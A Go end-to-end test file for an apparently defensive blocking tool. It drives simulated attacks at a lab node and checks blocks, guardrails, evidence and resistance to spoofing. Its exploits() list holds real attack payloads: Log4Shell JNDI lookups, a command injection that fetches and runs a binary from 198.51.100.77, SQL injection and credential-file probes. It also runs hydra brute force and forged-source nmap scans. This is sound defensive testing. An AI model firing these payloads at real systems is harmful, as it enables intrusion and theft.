package e2e

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"bartizan/internal/api"
	"bartizan/internal/model"
)

// dial connects to the node from one of the attacker's addresses; "" is its
// first one.
func (a *attacker) dial(src, port string, within time.Duration) (c net.Conn, err error) {
	dst := node4
	d := net.Dialer{Timeout: within}
	if src != "" {
		ip := net.ParseIP(src)
		if ip.To4() == nil {
			dst = node6
		}
		d.LocalAddr = &net.TCPAddr{IP: ip}
	}
	err = a.do(func() (err error) {
		c, err = d.Dial("tcp", net.JoinHostPort(dst, port))
		return err
	})
	return c, err
}

// knock is nil when the node answers.
func (a *attacker) knock(src, port string) error {
	c, err := a.dial(src, port, 400*time.Millisecond)
	if err != nil {
		return err
	}
	return c.Close()
}

// send sends text on a connection of its own and returns the answer.
func (a *attacker) send(src, port, text string) (string, error) {
	c, err := a.dial(src, port, 2*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		return "", err
	}
	b, err := io.ReadAll(io.LimitReader(c, 1<<20))
	if len(b) > 0 {
		err = nil
	}
	return string(b), err
}

// exploits are requests that together leave no doubt.
func exploits() []string {
	get := func(target string, headers ...string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nConnection: close\r\n" + strings.Join(headers, "") + "\r\n"
	}
	return []string{
		get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
		get("/?x=${jndi:ldap://198.51.100.77:1389/a}", "X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.77/a}\r\n"),
		get("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/arm7;chmod+777+arm7;./arm7"),
		get("/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user--%20-"),
		get("/.env"), get("/.aws/credentials"), get("/.git/config"),
	}
}

// attackWeb sends all exploits, or as many as it is let.
func (a *attacker) attackWeb(src, port string) (sent int, err error) {
	for _, e := range exploits() {
		if _, err := a.send(src, port, e); err != nil {
			return sent, err
		}
		sent++
	}
	return sent, nil
}

// TestEnforce: a node that enforces blocks attackers' tools, and only where a
// lease lifts the guardrail of reserved ranges.
func TestEnforce(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	n := l.up(t, enforcing())
	if st := n.status(t); st.Mode != "enforce" {
		t.Fatalf("mode %s", st.Mode)
	}
	t.Run("attacks", func(t *testing.T) {
		t.Run("without a lease", func(t *testing.T) { a := l.attacker(t); t.Parallel(); unleased(t, n, a) })
		t.Run("web with a lease", func(t *testing.T) { a := l.attacker(t); t.Parallel(); leasedWeb(t, n, a, a.ip) })
		t.Run("web with a lease, IPv6", func(t *testing.T) { a := l.attacker(t); t.Parallel(); leasedWeb(t, n, a, a.ip6) })
		t.Run("hydra with a lease", func(t *testing.T) { a := l.attacker(t); t.Parallel(); leasedHydra(t, n, a) })
		t.Run("SYNs with a lease", func(t *testing.T) { a, b := l.attacker(t), l.attacker(t); t.Parallel(); leasedSYN(t, n, a, b) })
	})
	t.Run("by hand", func(t *testing.T) { byHand(t, n) })
	n.stop(t)
	if k := l.kernel(t); len(k) == 0 {
		t.Error("stopping the node lifted a block that has not ended")
	}
}

// unleased: the whole attack, and the node holds its decision for a person who
// may not release it either.
func unleased(t *testing.T, n *node, a *attacker) {
	need(t, "hydra")
	if sent, err := a.attackWeb("", "80"); err != nil {
		t.Fatalf("cut off after %d requests: %v", sent, err)
	}
	a.run(t, time.Minute, "hydra", "-I", "-l", "root", "-P", wordlist(t), "-t", "4", "ssh://"+node4)
	var held api.Decision
	eventually(t, 20*time.Second, "a held decision", func() error {
		for _, d := range n.decisions(t, a.ip) {
			if d.State != model.StateHeld || d.Action != model.Block {
				continue
			}
			held = d
			for _, g := range d.Guardrails {
				if g.Guardrail == "reserved" && g.Verdict == model.GuardNever {
					return nil
				}
			}
		}
		return fmt.Errorf("decisions: %+v", n.decisions(t, a.ip))
	})
	if len(held.Because.Classes) < 2 || held.Because.Confidence < 0.95 {
		t.Errorf("the decision rests on confidence %v and %v: the guardrail was not what stopped it", held.Because.Confidence, held.Because.Classes)
	}
	if r := n.cli(t, "decisions", "approve", held.ID.String()); r.code != 1 || !strings.Contains(r.err, "reserved") {
		t.Errorf("a reserved address could be released by hand: %s", r)
	}
	if covers(n.lab.kernel(t), held.Target) {
		t.Error("the kernel holds the address")
	}
	if err := a.knock("", "80"); err != nil {
		t.Errorf("the attacker is shut out: %v", err)
	}
}

// leasedWeb: blocked, seen from both sides, explained, and let in again.
func leasedWeb(t *testing.T, n *node, a *attacker, src string) {
	n.lease(t, 5, src)
	// A cable that is new carries IPv6 a moment later than IPv4.
	eventually(t, 20*time.Second, "the open door before the attack", func() error { return a.knock(src, "80") })
	sent, _ := a.attackWeb(src, "80") // being cut off is the point
	if sent < 1 {
		t.Error("blocked before it did anything")
	}
	d := n.awaitBlock(t, src)
	eventually(t, 20*time.Second, "the block in the kernel", func() error {
		if !covers(n.lab.kernel(t), d.Target) {
			return fmt.Errorf("the kernel holds %v", n.lab.kernel(t))
		}
		return nil
	})
	if err := a.knock(src, "80"); !isTimeout(err) {
		t.Errorf("while blocked: %v", err)
	}
	complete(t, n, d.ID.String(), "/cgi-bin/.%2e/.%2e", model.StateActive)
	eventually(t, time.Until(d.Until)+2*time.Second, "let in again", func() error { return a.knock(src, "80") })
	eventually(t, 20*time.Second, "the end is written down", func() error {
		now := n.decisions(t, src)[0]
		if now.State != model.StateExpired || !hasReceipt(now, model.Expired) {
			return fmt.Errorf("state %s, receipts %v", now.State, now.Receipts)
		}
		return nil
	})
	if left := d.Until.Sub(d.From); left < 2*time.Second || left > 5*time.Second {
		t.Errorf("a block under a lease lasts %v", left)
	}
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

func hasReceipt(d api.Decision, status model.ReceiptStatus) bool {
	return slices.ContainsFunc(d.Receipts, func(r model.Receipt) bool { return r.Status == status })
}

// complete: the chain from decision to bytes has no gap, as JSON and as text.
func complete(t *testing.T, n *node, id, sent string, state model.State) {
	t.Helper()
	y := cliJSON[api.Why](t, n, "why", id)
	switch {
	case y.Kind != "decision" || y.Decision == nil || y.Decision.ID.String() != id || y.Decision.State != state:
		t.Fatalf("why %s: %s %+v", id, y.Kind, y.Decision)
	case y.Indicator == nil || len(y.Indicator.Terms) < 2 || y.Indicator.Entity != y.Decision.Target:
		t.Errorf("why: indicator %+v", y.Indicator)
	case len(y.Gone) > 0:
		t.Errorf("why: gone %v", y.Gone)
	case y.Lease == nil || len(y.Lease.Signature) == 0:
		t.Error("why does not show the lease")
	}
	if !hasReceipt(*y.Decision, model.Applied) {
		t.Errorf("no enforcer said that it applied it: %v", y.Decision.Receipts)
	}
	if len(y.Ledger) == 0 || y.Ledger[0].Change != model.ChangeDecide {
		t.Errorf("ledger: %+v", y.Ledger)
	}
	want := map[model.ULID]bool{}
	for _, s := range y.Decision.Because.Signals {
		want[s] = true
	}
	if len(want) < 2 {
		t.Errorf("the decision names %d signals", len(want))
	}
	kept := 0
	for _, s := range y.Signals {
		delete(want, s.ID)
		for _, e := range s.Evidence {
			kept += min(1, len(e.Blob))
		}
	}
	if len(want) > 0 || kept < 2 {
		t.Errorf("%d signals are missing, %d pieces of evidence are kept", len(want), kept)
	}
	contains(t, "the kept evidence", n.evidence(t, y.Signals), sent)
	text := n.cli(t, "why", id)
	contains(t, "why as text", text.out, "decision "+id, "guardrail", "receipt", "because", "term", "bartizan evidence ", "drill lease", "policy")
	for _, s := range y.Signals[:1] {
		back := cliJSON[api.Why](t, n, "why", s.ID.String())
		if back.Kind != "signal" || !slices.ContainsFunc(back.Decisions, func(d api.Decision) bool { return d.ID.String() == id }) {
			t.Errorf("why of a signal leads to %d decisions, not to this one", len(back.Decisions))
		}
	}
	whole := cliJSON[api.Why](t, n, "why", y.Decision.Target.Value())
	if whole.Kind != "indicator" || whole.Indicator == nil || len(whole.Decisions) == 0 {
		t.Errorf("why of the address: %+v", whole)
	}
}

// leasedHydra: a brute force tool is cut off while it runs.
func leasedHydra(t *testing.T, n *node, a *attacker) {
	need(t, "hydra")
	n.lease(t, 5, a.ip)
	p := a.start(t, command("hydra", "-I", "-l", "root", "-P", wordlist(t), "-t", "4", "-W", "1", "ssh://"+node4))
	defer p.kill()
	d := n.awaitBlock(t, a.ip)
	if !slices.Contains(d.Because.Classes, model.ClassAuth) {
		t.Errorf("a brute force was blocked for %v", d.Because.Classes)
	}
	eventually(t, 20*time.Second, "the block in the kernel", func() error {
		if !covers(n.lab.kernel(t), d.Target) {
			return errors.New("not there")
		}
		return nil
	})
	if err := a.knock("", "23"); !isTimeout(err) {
		t.Errorf("while blocked: %v", err)
	}
	complete(t, n, d.ID.String(), `password "root"`, model.StateActive) // which of its list comes first, hydra decides anew each time
}

// leasedSYN: neither a SYN scan nor SYNs that somebody forges in another's name
// bring a decision about, although the address could be blocked.
func leasedSYN(t *testing.T, n *node, a, b *attacker) {
	need(t, "nmap")
	n.lease(t, 5, a.ip, b.ip)
	nmap(t, a, "-sS", "-p1-12000", "--min-rate", "20000", "--max-retries", "1")
	// a forges what it sends as coming from b.
	r := a.run(t, time.Minute, "nmap", "-Pn", "-n", "-sS", "-S", b.ip, "-e", "up0", "-p22,23,80,443,2375,6379", "--max-retries", "3", "--host-timeout", "8s", node4)
	if r.code != 0 {
		t.Errorf("nmap with a forged source: %s", r)
	}
	// What an honest visitor does last is seen last: then all before it was judged.
	if _, err := a.send("", "80", "GET / HTTP/1.0\r\n\r\n"); err != nil {
		t.Fatalf("a visit after the scan: %v", err)
	}
	n.awaitSignals(t, a.ip, "contact.decoy")
	for _, who := range []*attacker{a, b} {
		for _, d := range n.decisions(t, who.ip) {
			if d.Action >= model.Throttle {
				t.Errorf("forged packets brought about: %s %s (%s)", d.Action, d.Target, d.Reason)
			}
		}
		if err := who.knock("", "80"); err != nil {
			t.Errorf("%s is shut out: %v", who.ip, err)
		}
	}
	for _, s := range n.signals(t, b.ip) {
		if !s.Spoofable && !strings.HasPrefix(s.Kind, "contact.") { // its own knock is a contact
			t.Errorf("forged packets made a signal that counts: %s", s.Kind)
		}
	}
}

// byHand: a person's block of a real address holds in the kernel for its time
// and ends with a word.
func byHand(t *testing.T, n *node) {
	d := cliJSON[api.Decision](t, n, "decisions", "add", "45.66.77.88", "--for", "10m", "--reason", "seen elsewhere")
	if d.State != model.StateActive || d.DryRun || d.Policy != "manual" || !strings.HasPrefix(d.Actor, "uid=0") {
		t.Errorf("added: %+v", d.Decision)
	}
	kept := cliJSON[api.Decision](t, n, "decisions", "add", "2a01:4f8:aaaa:bbbb::/64", "--for", "1h")
	for _, x := range []api.Decision{d, kept} {
		eventually(t, 20*time.Second, "in the kernel", func() error {
			if !covers(n.lab.kernel(t), x.Target) {
				return fmt.Errorf("not there: %s", x.Target)
			}
			return nil
		})
	}
	gone := cliJSON[api.Decision](t, n, "decisions", "remove", "45.66.77.88", "--reason", "it was us")
	if gone.ID != d.ID || gone.State != model.StateRemoved {
		t.Errorf("removed: %+v", gone.Decision)
	}
	eventually(t, 20*time.Second, "out of the kernel", func() error {
		if covers(n.lab.kernel(t), d.Target) {
			return errors.New("still there")
		}
		return nil
	})
	for _, own := range []string{node4, node6, "10.200.1.1", "10.200.1.2", "127.0.0.1", "198.18.9.9", "192.168.1.0/24", "0.0.0.0/1"} {
		r := n.cli(t, "decisions", "add", own, "--for", "1m")
		e, _ := model.ParseIP(own)
		if r.code == 0 || covers(n.lab.kernel(t), e) {
			t.Errorf("decisions add %s: %s", own, r)
		}
	}
}

// leaseGone: nothing of a lease is left.
func leaseGone(ctx context.Context, n *node) error {
	st, err := n.api.Status(ctx)
	if err != nil {
		return err
	}
	if len(st.Leases) > 0 {
		return fmt.Errorf("%d leases are in force", len(st.Leases))
	}
	return nil
}
